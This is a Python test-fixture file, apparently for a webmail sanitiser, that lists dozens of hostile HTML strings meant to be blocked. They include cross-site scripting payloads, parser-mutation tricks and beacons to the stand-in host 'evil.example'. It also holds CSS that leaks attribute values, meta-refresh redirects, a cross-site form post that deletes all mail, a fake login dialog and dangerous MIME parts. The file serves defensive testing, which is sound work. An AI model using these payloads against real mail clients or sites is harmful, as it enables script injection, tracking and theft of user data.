"""HTML in mail that tries to run scripts, to fetch something, or to navigate the browser away.

``EVIL`` is a host of an attacker, and ``OWN`` a path on the inbox's own host that no page requests. Whatever a browser
does with the HTML, no script must run, nothing must be fetched from either of them, and the page must not change.
"""

# ruff: noqa: E501  # a line for each trick

from __future__ import annotations

NAME = "The end of the corpus"
EVIL = "http://evil.example"
OWN = "/fetched-by-a-mail"
JS = f"document.title='pwned';new Image().src='{EVIL}/js';fetch('{EVIL}/fetch');top.location='{EVIL}/top';alert(1)"

# Scripts

SCRIPTS = {
    "script": f"<script>{JS}</script>",
    "script of another host": f"<script src='{EVIL}/x.js'></script>",
    "script of our own host": f"<script src='{OWN}'></script>",
    "module": f"<script type=module>import '{EVIL}/m.js'</script>",
    "script in upper case with a slash": f"<SCRIPT/x>{JS}</SCRIPT>",
    "script that is not closed": f"<script>{JS}",
    "script within a broken comment": f"<!--><script>{JS}</script>-->",
    "script after a closed title": f"<title></title><script>{JS}</script>",
    "script from a noscript": f"<noscript><p title='</noscript><script>{JS}</script>'>",
    "script in a textarea": f"<textarea></textarea><script>{JS}</script></textarea>",
    "img onerror": f'<img src=x onerror="{JS}">',
    "img onerror without quotes": "<img/src/onerror=alert(1)>",
    "img onload": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="{JS}">',
    "body onload": f'<body onload="{JS}">',
    "body onpageshow": f'<body onpageshow="{JS}">',
    "input autofocus": f'<input autofocus onfocus="{JS}">',
    "select autofocus": f'<select autofocus onfocus="{JS}"></select>',
    "details ontoggle": f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    "video onerror": f'<video onerror="{JS}"><source src=x></video>',
    "audio onerror": f'<audio src=x onerror="{JS}"></audio>',
    "marquee onstart": f'<marquee onstart="{JS}">x</marquee>',
    "style onload": f'<style onload="{JS}">x{{}}</style>',
    "animation event": f'<style>@keyframes a{{}}</style><p style="animation:a 1s" onanimationstart="{JS}">x</p>',
    "transition event": f'<p style="transition:color 1s" ontransitionend="{JS}" autofocus>x</p>',
    "scroll event": f'<div onscroll="{JS}" style="overflow:scroll;height:1px"><p style="height:9999px" id=x>x</p></div>',
    "pointer events": f'<div style="position:fixed;inset:0" onmouseover="{JS}" onclick="{JS}">x</div>',
    "javascript link": f'<a href="javascript:{JS}" id=link style="position:fixed;inset:0">click</a>',
    "javascript link with entities": '<a href="java&Tab;script&colon;alert(1)" id=link>click</a>',
    "javascript in an area": f'<img usemap=#m src=x><map name=m><area href="javascript:{JS}" shape=default></map>',
    "javascript iframe": f'<iframe src="javascript:{JS}"></iframe>',
    "javascript object": f'<object data="javascript:{JS}"></object>',
    "javascript embed": f'<embed src="javascript:{JS}">',
    "javascript form": f'<form action="javascript:{JS}"><input type=submit id=link value=x></form>',
    "javascript formaction": f'<form><button formaction="javascript:{JS}" id=link>x</button></form>',
    "srcdoc": f'<iframe srcdoc="&lt;script&gt;{JS}&lt;/script&gt;"></iframe>',
    "data frame": f'<iframe src="data:text/html,<script>{JS}</script>"></iframe>',
    "data object": "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "blob by script": "<script>location=URL.createObjectURL(new Blob(['<script>alert(1)<\\/script>'],{type:'text/html'}))</script>",
    "svg script": f"<svg><script>{JS}</script></svg>",
    "svg script by href": f'<svg><script href="{EVIL}/s.js"/></svg>',
    "svg onload": f'<svg onload="{JS}"></svg>',
    "svg animate": f'<svg><animate onbegin="{JS}" attributeName=x dur=1s></svg>',
    "svg set to javascript": "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20 id=link>x</text></a></svg>",
    "svg foreign object": f'<svg><foreignObject><iframe src="javascript:{JS}"></iframe></foreignObject></svg>',
    "svg use data": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"></use></svg>",
    "svg image in data": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">",
    "math link": f'<math href="javascript:{JS}" id=link><mtext>x</mtext></math>',
    "math and style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={EVIL}&gt;'>",
    "xml island": f"<xml><i><b>&lt;script&gt;{JS}&lt;/script&gt;</b></i></xml>",
    "expression": "<p style='width:expression(alert(1));behavior:url(#default#time2)'>x</p>",
    "template": f"<template shadowrootmode=open><script>{JS}</script></template>",
    "custom element": f"<x-y onclick='{JS}' is=x tabindex=0 autofocus onfocus='{JS}'>x</x-y>",
    "utf-7": "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "null octets": "<scr\0ipt>alert(1)</scr\0ipt><img src=x one\0rror=alert(1)>",
}

# Requests

REQUESTS = {
    "img": f"<img src='{EVIL}/i.png'>",
    "img of our own host": f"<img src='{OWN}'>",
    "img of our own API": "<img src='/api/v1/messages?own=fetched-by-a-mail'>",
    "srcset": f"<img srcset='{EVIL}/1.png 1x, {EVIL}/2.png 2x'>",
    "picture": f"<picture><source srcset='{EVIL}/p.webp'><img src='{EVIL}/p.png'></picture>",
    "input image": f"<input type=image src='{EVIL}/i.png'>",
    "background attribute": f"<body background='{EVIL}/b.png'><table background='{EVIL}/t.png'><tr><td>x</table>",
    "poster and media": f"<video poster='{EVIL}/p.png' src='{EVIL}/v.mp4' autoplay></video><audio src='{EVIL}/a.mp3' autoplay>",
    "track": f"<video><track src='{EVIL}/t.vtt' default></video>",
    "stylesheet": f"<link rel=stylesheet href='{EVIL}/s.css'>",
    "alternate stylesheet": f"<link rel='alternate stylesheet' title=x href='{EVIL}/s.css'>",
    "import": f"<style>@import '{EVIL}/i.css'; @import url({EVIL}/j.css);</style>",
    "css background": f"<p style='background:url({EVIL}/c.png)'>x</p><style>p{{border-image:url({EVIL}/d.png)}}</style>",
    "css with escapes": "<p style='background:\\75rl(http://evil.example/e.png)'>x</p>",
    "css cursor, list and content": f"<style>p{{cursor:url({EVIL}/c.cur),auto;list-style:url({EVIL}/l.png)}}p:before{{content:url({EVIL}/x.png)}}</style><p>x",
    "css that reads attributes": f"<style>input[value^=a]{{background:url({EVIL}/a)}}</style><input value=abc>",
    "font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff2)}}p{{font-family:x}}</style><p>x</p>",
    "prefetch": f"<link rel=prefetch href='{EVIL}/p'><link rel=preload as=image href='{EVIL}/q'><link rel=prerender href='{EVIL}/r'>",
    "preconnect": f"<link rel=preconnect href='{EVIL}'><link rel=dns-prefetch href='//evil.example'>",
    "modulepreload and icon": f"<link rel=modulepreload href='{EVIL}/m.js'><link rel=icon href='{EVIL}/f.ico'>",
    "manifest": f"<link rel=manifest href='{EVIL}/m.json'>",
    "frame": f"<iframe src='{EVIL}/f.html'></iframe>",
    "frame that is lazy": f"<iframe src='{EVIL}/f.html' loading=lazy></iframe>",
    "frameset": f"<frameset><frame src='{EVIL}/f.html'></frameset>",
    "frame of our own host": f"<iframe src='{OWN}'></iframe>",
    "object and embed": f"<object data='{EVIL}/o.swf'></object><embed src='{EVIL}/e.swf'><applet code='{EVIL}/a.class'></applet>",
    "svg image": f"<svg><image href='{EVIL}/i.png'/><image xlink:href='{EVIL}/j.png'/></svg>",
    "svg use": f"<svg><use href='{EVIL}/u.svg#x'/></svg>",
    "svg filter": f"<svg><filter id=f><feImage href='{EVIL}/f.png'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "svg style": f"<svg><style>@import '{EVIL}/s.css';</style><rect style='fill:url({EVIL}/p.svg#x)'/></svg>",
    "base": f"<base href='{EVIL}/'><img src='i.png'><a href='x'>x</a>",
    "ping": f"<a href='#x' ping='{EVIL}/ping' id=link>x</a>",
    "cid that is none": "<img src='cid:nobody@example.com'><img src='cid:../../fetched-by-a-mail'>",
    "attribution": f"<img attributionsrc='{EVIL}/a' src='data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='>",
    "report": f"<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri {EVIL}/r\"><img src='{EVIL}/i.png'>",
    "conditional comment": f"<!--[if true]><img src='{EVIL}/i.png'><![endif]--><!--[if !mso]><!--><img src='{EVIL}/j.png'><!--<![endif]-->",
}

# Navigation

NAVIGATION = {
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/r'>",
    "refresh at once with javascript": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "refresh to our own host": f"<meta http-equiv=refresh content='0;url={OWN}'>",
    "refresh with data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "form to another host": f"<form action='{EVIL}/f' method=post><input name=x autofocus><input type=submit id=link></form>",
    "form to our own host": "<form action='/do' method=post><input name=action value=delete-all><input type=submit id=link></form>",
    "form into the top": f"<form action='{EVIL}/f' target=_top><input type=submit id=link></form>",
    "link into the top": f"<a href='{EVIL}/t' target=_top id=link>x</a>",
    "link into the parent": f"<a href='{EVIL}/t' target=_parent id=link>x</a>",
    "base into the top": f"<base target=_top><a href='{EVIL}/t' id=link>x</a>",
    "cookie": "<meta http-equiv=Set-Cookie content='pwned=1'>",
    "dialog over the page": "<dialog open style='position:fixed;inset:0'>Log in: <input></dialog>",
    "end of the document": f"</body></html><script>{JS}</script><img src='{EVIL}/late.png'>",
}

HTML = {**SCRIPTS, **REQUESTS, **NAVIGATION}

# Header fields that the application's pages show.
HEADERS = {
    "subject": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "name": '"><svg onload=alert(1)>',
    "braces": "{{7*7}} ${7*7} {% raw %}",
}

# Parts that a browser would execute if it displayed them.
PARTS = {
    "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{JS}\"><image href='{EVIL}/p.png'/></svg>",
    "text/html": f"<script>{JS}</script><img src='{EVIL}/part.png'>",
    "application/xhtml+xml": f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{JS.replace('&', '&amp;')}</script></html>",
    "text/xml": "<?xml-stylesheet href='http://evil.example/x.xsl' type='text/xsl'?><a/>",
    "application/pdf": "%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    "text/plain": f"<script>{JS}</script>",
    "image/png": f"<script>{JS}</script>",
    "multipart/x-mixed-replace; boundary=x": f"--x\r\nContent-Type: text/html\r\n\r\n<script>{JS}</script>\r\n--x--",
    "text/javascript": JS,
}
